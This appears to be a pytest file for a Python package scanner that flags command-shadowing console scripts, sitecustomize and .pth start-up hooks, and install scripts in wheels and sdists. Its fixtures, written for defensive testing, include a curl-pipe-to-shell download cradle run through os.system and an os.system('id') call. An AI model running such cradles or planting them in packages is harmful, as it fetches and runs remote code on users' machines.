"""Commands installed in place of the system's (guard.analysis.scan.commands), and
modules the interpreter imports at every start-up (a wheel's sitecustomize.py)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from guard.analysis.scan import scan_archive
from guard.analysis.scan.commands import shadowed_commands
from guard.analysis.scan.layout import Layout
from tests.analysis.test_scan import sdist, wheel


def _found(files: dict[str, str], layout: Layout) -> list[tuple[str, int]]:
    prefix = "" if layout.wheel else f"{layout.project}-1.0/"
    contents = {f"{prefix}{name}": text.encode() for name, text in files.items()}
    return [(hit.text.split("'")[1], hit.line) for _, hit in shadowed_commands(contents, layout)]


def test_a_wheels_console_and_gui_scripts_named_as_system_commands() -> None:
    files = {
        "sample-1.0.dist-info/entry_points.txt": (
            "[console_scripts]\nsample = sample.cli:main\nls = sample.cli:main\n"
            "[gui_scripts]\nexplorer = sample.gui:run\n"
            "[virtualenv.activate]\nbash = sample.plugin:Bash\n"
        ),
    }
    assert _found(files, Layout(True, True, "sample")) == [("ls", 3), ("explorer", 5)]


def test_an_sdists_scripts_in_setup_py_cfg_and_pyproject() -> None:
    files = {
        "setup.py": (
            "from setuptools import setup\n"
            "setup(\n    entry_points={\n        'console_scripts': [\n"
            "            'sample = sample.cli:main',\n            'git = sample.cli:main',\n"
            "        ],\n        'pytest11': ['curl = sample.plugin'],\n    },\n)\n"
        ),
        "setup.cfg": (
            "[metadata]\nname = sample\n[options.entry_points]\nconsole_scripts =\n"
            "    sample2 = sample.cli:main\n    sudo = sample.cli:main\n"
            "pytest11 =\n    wget = sample.plugin\n"
        ),
        "pyproject.toml": (
            '[project]\nname = "sample"\n[project.scripts]\npython3 = "sample.cli:main"\n'
        ),
    }
    found = sorted(_found(files, Layout(False, True, "sample")))
    assert found == [("git", 6), ("python3", 4), ("sudo", 6)]


def test_a_tools_own_commands_and_its_own_names_are_not_counted() -> None:
    pip = {
        "pip-26.0.dist-info/entry_points.txt": "[console_scripts]\npip3.12 = pip._internal:main\n"
    }
    aws = {"awscli-2.0.dist-info/entry_points.txt": "[console_scripts]\naws = awscli:main\n"}
    tool = {"tool-1.0.dist-info/entry_points.txt": "[console_scripts]\ntool = tool:main\n"}
    assert _found(pip, Layout(True, True, "pip")) == []
    assert _found(aws, Layout(True, True, "awscli")) == []
    assert _found(tool, Layout(True, True, "tool")) == []
    assert _found(pip, Layout(True, True, "pipx-helper")) == [("pip3.12", 2)]


def test_a_copy_of_a_virtual_environment_inside_the_wheel_installs_no_command() -> None:
    files = {
        "sample/venv/lib/site-packages/pip-21.0.dist-info/entry_points.txt": (
            "[console_scripts]\npip = pip._internal.cli.main:main\n"
        ),
    }
    assert _found(files, Layout(True, True, "sample")) == []


def test_the_scan_blocks_an_sdist_that_installs_ls(tmp_path: Path) -> None:
    setup = (
        "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'],"
        " entry_points={'console_scripts': ['ls = sample.cli:main']})\n"
    )
    files = {
        "setup.py": setup,
        "sample/__init__.py": "",
        "sample/cli.py": "def main():\n    pass\n",
    }
    result = scan_archive(sdist(tmp_path, files, name="sample-1.0"), "sample-1.0.tar.gz")
    assert result.level == "block"
    assert [(s.kind, s.file, s.line) for s in result.signals] == [
        ("command-jacking", "setup.py", 2)
    ]


def test_the_scan_leaves_a_wheel_with_its_own_command_alone(tmp_path: Path) -> None:
    path = tmp_path / "sample-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("sample/__init__.py", "")
        zf.writestr("sample/cli.py", "def main():\n    pass\n")
        zf.writestr(
            "sample-1.0.dist-info/entry_points.txt", "[console_scripts]\nsample = sample.cli:main\n"
        )
    result = scan_archive(path, path.name)
    assert result.level == "clean"
    assert result.signals == ()


@pytest.mark.parametrize(
    "member",
    [
        "sitecustomize.py",
        "sample-1.0.data/purelib/usercustomize.py",
        # (the data scheme installs under the environment's prefix: into site-packages)
        "sample-1.0.data/data/lib/python3.11/site-packages/sitecustomize.py",
        "sample-1.0.data/data/Lib/site-packages/usercustomize.py",
    ],
)
def test_a_wheels_sitecustomize_runs_at_every_start_up(tmp_path: Path, member: str) -> None:
    path = wheel(tmp_path, {member: "import sample\n"}, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert result.level == "warn"
    assert [(s.rule, s.role) for s in result.signals] == [("pth-code", "startup")]


def test_a_module_the_data_scheme_installs_into_site_packages_is_a_top_level_module(
    tmp_path: Path,
) -> None:
    """What ``.data/data/lib/python3.X/site-packages/`` holds installs beside the
    wheel's root: a module there is a top-level module, read as one."""
    member = "sample-1.0.data/data/lib/python3.11/site-packages/helper.py"
    files = {"sample/__init__.py": "import helper\n", member: "import os\nos.system('id')\n"}
    path = wheel(tmp_path, files, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert [(s.kind, s.file, s.role) for s in result.signals] == [("spawn", "helper.py", "import")]


def test_a_module_named_sitecustomize_inside_a_package_is_no_start_up_hook(
    tmp_path: Path,
) -> None:
    files = {"sample/__init__.py": "", "sample/sitecustomize.py": "import sample\n"}
    path = wheel(tmp_path, files, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert result.level == "clean"


_SCRIPT_CRADLE = "import os\nos.system('curl -s http://127.0.0.1:9/x.sh | sh')\n"


@pytest.mark.parametrize(
    ("member", "text"),
    [
        ("sample-1.0.data/scripts/sample-run", "#!python\n" + _SCRIPT_CRADLE),
        ("sample-1.0.data/scripts/sample-run", "#!/usr/bin/env python3\n" + _SCRIPT_CRADLE),
        ("sample-1.0.data/scripts/run.py", _SCRIPT_CRADLE),
    ],
)
def test_a_wheels_python_script_is_read_as_the_packages_code(
    tmp_path: Path, member: str, text: str
) -> None:
    """pip installs ``.data/scripts/`` as commands: a Python one, whatever its name,
    is read as the package's other modules are (a technique counts anywhere)."""
    path = wheel(tmp_path, {"sample/__init__.py": "", member: text}, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert result.level == "block"
    assert ("cradle", member, "module") in {(s.kind, s.file, s.role) for s in result.signals}


def test_a_wheels_script_that_does_its_job_under_its_main_guard_is_quiet(tmp_path: Path) -> None:
    script = (
        "#!python\nimport sys\nimport urllib.request\n\n\ndef main():\n"
        "    urllib.request.urlretrieve(sys.argv[1], 'page.html')\n\n\n"
        "if __name__ == '__main__':\n    main()\n"
    )
    files = {"sample/__init__.py": "", "sample-1.0.data/scripts/fetch-page": script}
    path = wheel(tmp_path, files, name="sample-1.0")
    assert scan_archive(path, path.name).level == "clean"


def test_a_wheels_shell_script_is_not_read_as_python(tmp_path: Path) -> None:
    script = '#!/bin/sh\ncurl -s "$1" | python -m sample\n'
    files = {"sample/__init__.py": "", "sample-1.0.data/scripts/sample-sh": script}
    path = wheel(tmp_path, files, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert result.level == "clean"
    assert result.signals == ()


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("pth", "where"),
    [
        ("hooks.zip\n", "hooks.zip/sitecustomize.py"),
        ("./hooks.zip\n", "hooks.zip/sitecustomize.py"),
        ("# a comment\nhooks\n", "hooks/sitecustomize.py"),
        ("import os\nhooks\n", "hooks/sitecustomize.py"),
    ],
)
def test_a_sitecustomize_on_a_path_a_pth_file_adds_runs_at_every_start_up(
    tmp_path: Path, pth: str, where: str
) -> None:
    """``site`` appends a ``.pth`` file's other lines to ``sys.path`` and then imports
    ``sitecustomize`` from it: start-up code with no ``import`` line of its own."""
    files: dict[str, str | bytes] = {"sample/__init__.py": "", "sample-hooks.pth": pth}
    if where.startswith("hooks.zip/"):
        files["hooks.zip"] = _zip({"sitecustomize.py": "import sample\n", "x/y.py": ""})
    else:
        files["hooks/sitecustomize.py"] = "import sample\n"
    path = wheel(tmp_path, files, name="sample-1.0")
    result = scan_archive(path, path.name)
    started = [(s.rule, s.file) for s in result.signals if s.role == "startup"]
    assert ("pth-code", where) in started
    assert result.level in ("warn", "block")


def test_paths_a_pth_file_adds_without_a_start_up_module_are_nothing(tmp_path: Path) -> None:
    """pywin32's way: a ``.pth`` puts folders of modules on ``sys.path``."""
    files = {
        "sample/__init__.py": "",
        "sample.pth": "win32\nwin32/lib\n",
        "win32/winthing.py": "X = 1\n",
        "win32/lib/helper.py": "Y = 2\n",
    }
    path = wheel(tmp_path, files, name="sample-1.0")
    result = scan_archive(path, path.name)
    assert result.level == "clean"
    assert result.signals == ()


_RUN_SCRIPT = "#!/usr/bin/env python\n" + _SCRIPT_CRADLE


@pytest.mark.parametrize(
    "build",
    [
        {"setup.py": "from setuptools import setup\nsetup(scripts=['bin/sample-run'])\n"},
        {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "setup.cfg": "[metadata]\nname = sample\n\n[options]\nscripts =\n    bin/sample-run\n",
        },
        {
            "pyproject.toml": "[project]\nname = 'sample'\n\n"
            "[tool.setuptools]\nscript-files = ['bin/sample-run']\n",
        },
    ],
)
def test_an_sdists_python_script_is_read_as_the_packages_code(
    tmp_path: Path, build: dict[str, str]
) -> None:
    """What an sdist's build installs as a command (``scripts``, ``script-files``) is
    read as a wheel's scripts are."""
    path = sdist(tmp_path, {**build, "sample/__init__.py": "", "bin/sample-run": _RUN_SCRIPT})
    result = scan_archive(path, path.name)
    assert result.level == "block"
    assert ("cradle", "bin/sample-run", "module") in {
        (s.kind, s.file, s.role) for s in result.signals
    }


def test_an_sdists_shell_script_is_not_read_as_python(tmp_path: Path) -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='sample', scripts=['bin/run'])\n",
        "sample/__init__.py": "",
        "bin/run": '#!/bin/sh\ncurl -s "$1" | python -m sample\n',
    }
    path = sdist(tmp_path, files)
    assert scan_archive(path, path.name).signals == ()
